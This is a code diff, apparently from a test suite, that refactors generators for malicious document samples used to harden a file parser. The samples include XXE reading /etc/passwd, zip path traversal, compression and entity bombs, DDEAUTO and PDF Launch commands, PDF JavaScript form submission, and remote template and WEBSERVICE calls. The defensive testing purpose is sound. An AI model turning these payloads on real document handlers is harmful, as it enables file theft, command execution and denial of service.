@@ -15,7 +15,8 @@ ODF = " ".join(
     f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{value}:1.0"'
     for name, value in [("office", "office"), ("text", "text"), ("draw", "drawing"), ("table", "table"), ("script", "script"),
         ("svg", "svg-compatible"), ("manifest", "manifest")]) + (
-    ' xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:dom="http://www.w3.org/2001/xml-events" xmlns:ooo="http://openoffice.org/2004/office"')
+    ' xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:dom="http://www.w3.org/2001/xml-events" '
+    'xmlns:ooo="http://openoffice.org/2004/office"')
 
 
 def packed(files):
@@ -34,7 +35,8 @@ def packed(files):
 
 def relations(*entries):
     rows = "".join(
-        f'<Relationship Id="r{number}" Type="{RELATIONS}/{kind}" Target="{target}"{mode}/>' for number, (kind, target, mode) in enumerate(entries))
+        f'<Relationship Id="r{number}" Type="{RELATIONS}/{kind}" Target="{target}"{mode}/>'
+        for number, (kind, target, mode) in enumerate(entries))
     return f'{HEAD}<Relationships xmlns="{PACKAGE}/relationships">{rows}</Relationships>'
 
 
@@ -69,10 +71,21 @@ def picture(relation, attribute="embed"):
 def odf(kind, body, scripts="", more=None):
     """A document of OpenDocument."""
     media = f"application/vnd.oasis.opendocument.{kind}"
-    content = f'{HEAD}<office:document-content {ODF} office:version="1.3">{scripts}<office:body>{body}</office:body></office:document-content>'
-    names = "".join(f'<manifest:file-entry manifest:full-path="{name}" manifest:media-type="text/xml"/>' for name in ["content.xml", *(more or {})])
-    manifest = f'{HEAD}<manifest:manifest {ODF}><manifest:file-entry manifest:full-path="/" manifest:media-type="{media}"/>{names}</manifest:manifest>'
+    content = (
+        f'{HEAD}<office:document-content {ODF} office:version="1.3">{scripts}<office:body>{body}</office:body></office:document-content>')
+    names = [("/", media), ("content.xml", "text/xml"), *[(name, "text/xml") for name in more or {}]]
+    entries = "".join(f'<manifest:file-entry manifest:full-path="{name}" manifest:media-type="{kind}"/>' for name, kind in names)
+    manifest = f"{HEAD}<manifest:manifest {ODF}>{entries}</manifest:manifest>"
     return packed({"mimetype": media, "content.xml": content, "META-INF/manifest.xml": manifest, **(more or {})})
+
+
+def text(body, scripts="", more=None):
+    return odf("text", f"<office:text>{body}</office:text>", scripts, more)
+
+
+def sheet(row, cells):
+    table = f"<table:table><table:table-row {row}>{cells}</table:table-row></table:table>"
+    return odf("spreadsheet", f"<office:spreadsheet>{table}</office:spreadsheet>")
 
 
 def macro(marker):
@@ -89,14 +102,14 @@ def macro(marker):
         '<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" '
         'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document" xlink:type="simple"/>'
         "</office:event-listeners></office:scripts>")
-    return odf("text", "<office:text><text:p>Text</text:p></office:text>", scripts, {
+    return text("<text:p>Text</text:p>", scripts, {
         "Basic/Standard/Module1.xml": module, "Basic/Standard/script-lb.xml": library, "Basic/script-lc.xml": libraries})
 
 
 def pdf(*objects, catalogue="/Pages 2 0 R", pages="/Kids [3 0 R] /Count 1", page="/MediaBox [0 0 100 100]", before=None):
     """A file of one page, with more objects from number 4 on. `before` is the place of an older table of objects."""
-    parts = [
-        f"<</Type /Catalog {catalogue}>>".encode(), f"<</Type /Pages {pages}>>".encode(), f"<</Type /Page /Parent 2 0 R {page}>>".encode(), *objects]
+    first = [f"<</Type /Catalog {catalogue}>>", f"<</Type /Pages {pages}>>", f"<</Type /Page /Parent 2 0 R {page}>>"]
+    parts = [*(part.encode() for part in first), *objects]
     text, places = b"%PDF-1.7\n", []
     for number, part in enumerate(parts, 1):
         places.append(len(text))
@@ -157,14 +170,17 @@ def hostile_files(origin, outside):
     nested = docx()
     for _ in range(12):
         nested = packed({"word/document.xml": nested, "inner.docx": nested})
-    svg = f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{origin}/svg" width="9" height="9"/><script>location = "{origin}/js"</script></svg>'
+    svg = (
+        f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{origin}/svg" width="9" height="9"/>'
+        f'<script>location = "{origin}/js"</script></svg>')
     action = f'/OpenAction <</S /Launch /F (/usr/bin/touch) /Unix <</F (/usr/bin/touch) /P ({marker})>>>>'
     script = f'/OpenAction <</S /JavaScript /JS (app.launchURL\\("{origin}/js"\\); this.submitForm\\("{origin}/form"\\))>>'
     cell = '<table:table-cell table:formula="of:=WEBSERVICE(&quot;{}/service&quot;)" office:value-type="string"/>'.format(origin)
     return {
         # The six of the short form.
         "entities.docx": docx(document=laughs(document("&l9;"))),
-        "outside.docx": packed({"../../../marker": "x", marker: "x", marker[1:]: "x", "..\\..\\marker": "x", "word/document.xml": document("a")}),
+        "outside.docx": packed({
+            "../../../marker": "x", marker: "x", marker[1:]: "x", "..\\..\\marker": "x", "word/document.xml": document("a")}),
         "linked-picture.docx": docx(picture("r0", "link"), links=[("image", f"{origin}/picture.png", OUTSIDE)]),
         "truncated.docx": docx()[:700],
         "empty.docx": b"",
@@ -180,18 +196,23 @@ def hostile_files(origin, outside):
         "entity-file.docx": docx(document=f'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>{document("&a;")}'),
         "entity-server.docx": docx(document=f'<!DOCTYPE x [<!ENTITY a SYSTEM "{origin}/entity">]>{document("&a;")}'),
         "deep.docx": docx("<w:tbl><w:tr><w:tc>" * 5_000 + TEXT + "</w:tc></w:tr></w:tbl>" * 5_000),
-        "deeper.odt": odf("text", "<text:section>" * 100_000 + "</text:section>" * 100_000),
-        "cells.ods": odf("spreadsheet", '<office:spreadsheet><table:table><table:table-row table:number-rows-repeated="1048576"><table:table-cell '
-            'table:number-columns-repeated="16384" office:value-type="float" office:value="1"/></table:table-row></table:table></office:spreadsheet>'),
+        "deeper.odt": text("<text:section>" * 100_000 + "</text:section>" * 100_000),
+        "cells.ods": sheet('table:number-rows-repeated="1048576"', '<table:table-cell table:number-columns-repeated="16384" '
+            'office:value-type="float" office:value="1"/>'),
         # What they lead to.
-        "template.docx": docx(links=[("attachedTemplate", f"{origin}/template.dotm", OUTSIDE), ("oleObject", f"{origin}/object", OUTSIDE)]),
-        "field.docx": docx(f'<w:p><w:fldSimple w:instr="DDEAUTO touch {marker}"/><w:fldSimple w:instr="INCLUDEPICTURE {origin}/field"/></w:p>'),
-        "picture.odt": odf("text", f'<office:text><text:p><draw:frame svg:width="1cm" svg:height="1cm"><draw:image xlink:href="{origin}/odt.png"/>'
-            "</draw:frame></text:p></office:text>"),
-        "section.odt": odf("text", f'<office:text><text:section text:name="a"><text:section-source xlink:href="{origin}/section.odt"/>'
-            '</text:section><text:section text:name="b"><text:section-source xlink:href="file:///etc/passwd"/></text:section></office:text>'),
-        "service.ods": odf("spreadsheet", f"<office:spreadsheet><table:table><table:table-row>{cell}</table:table-row></table:table></office:spreadsheet>"),
-        "field.rtf": (r"{\rtf1{\field{\*\fldinst INCLUDEPICTURE " + origin + r"/rtf MERGEFORMAT \\d}}{\*\template " + origin + r"/rtf.dot}}").encode(),
+        "template.docx": docx(
+            links=[("attachedTemplate", f"{origin}/template.dotm", OUTSIDE), ("oleObject", f"{origin}/object", OUTSIDE)]),
+        "field.docx": docx(
+            f'<w:p><w:fldSimple w:instr="DDEAUTO touch {marker}"/><w:fldSimple w:instr="INCLUDEPICTURE {origin}/field"/></w:p>'),
+        "picture.odt": text('<text:p><draw:frame svg:width="1cm" svg:height="1cm">'
+            f'<draw:image xlink:href="{origin}/odt.png"/></draw:frame></text:p>'),
+        "section.odt": text("".join(
+            f'<text:section text:name="{name}"><text:section-source xlink:href="{address}"/></text:section>'
+            for name, address in [("a", f"{origin}/section.odt"), ("b", "file:///etc/passwd")])),
+        "service.ods": sheet("", cell),
+        "field.rtf": (
+            r"{\rtf1{\field{\*\fldinst INCLUDEPICTURE " + origin + r"/rtf MERGEFORMAT \\d}}"
+            r"{\*\template " + origin + "/rtf.dot}}").encode(),
         "groups.rtf": b"{\\rtf1" + b"{" * 200_000,
         "macro.odt": macro(marker),
         # Pictures.
@@ -217,7 +238,7 @@ def hostile_files(origin, outside):
             stream(b"/a Do"), page="/MediaBox [0 0 9 9] /Contents 5 0 R /Resources <</XObject <</a 4 0 R>>>>"),
         "bomb.pdf": pdf(stream(flattened(1 << 30), b"/Filter [/FlateDecode /FlateDecode]"), page="/MediaBox [0 0 9 9] /Contents 4 0 R"),
         "picture.pdf": pdf(
-            stream(b"", f"/F <</FS /URL /F ({origin}/pdf)>> /Type /XObject /Subtype /Image /Width 99999 /Height 99999 /ColorSpace /DeviceRGB "
-                "/BitsPerComponent 8".encode()), stream(b"/a Do"),
+            stream(b"", f"/F <</FS /URL /F ({origin}/pdf)>> /Type /XObject /Subtype /Image /Width 99999 /Height 99999 ".encode()
+                + b"/ColorSpace /DeviceRGB /BitsPerComponent 8"), stream(b"/a Do"),
             page="/MediaBox [0 0 9 9] /Contents 5 0 R /Resources <</XObject <</a 4 0 R>>>>"),
     }
